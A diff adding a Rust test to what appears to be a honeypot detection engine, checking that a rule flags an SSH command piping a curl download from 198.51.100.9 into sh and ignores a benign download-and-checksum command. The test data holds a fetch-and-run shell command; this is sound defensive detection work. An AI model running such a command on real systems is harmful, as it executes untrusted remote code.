@@ -244,3 +244,20 @@ fn the_built_in_pack_compiles_and_routes_brute_force() {
             .all(|i| i.rule.id != "nectar.ssh-brute-force")
     );
 }
+
+#[test]
+fn the_pack_reads_a_download_piped_into_a_shell_from_the_command_line() {
+    let set = RuleSet::load(&[], &[], true);
+    let (mut e, _) = SigmaEngine::new(&set, EngineLimits::default());
+    let mut cmd = Event::new("hp", Kind::SshCommand, Severity::Medium, "")
+        .with("input", "cd /tmp; curl -s http://198.51.100.9/x.sh | sh");
+    cmd.src_ip = Some("198.51.100.1".parse().unwrap());
+    let ids: Vec<String> = run(&mut e, &cmd).into_iter().map(|m| m.rule.id).collect();
+    assert!(
+        ids.contains(&"nectar.shell-download-and-run".to_owned()),
+        "{ids:?}"
+    );
+    let benign = Event::new("hp", Kind::SshCommand, Severity::Medium, "")
+        .with("input", "curl -s http://198.51.100.9/x.sh -o x; shasum x");
+    assert!(run(&mut e, &benign).is_empty());
+}
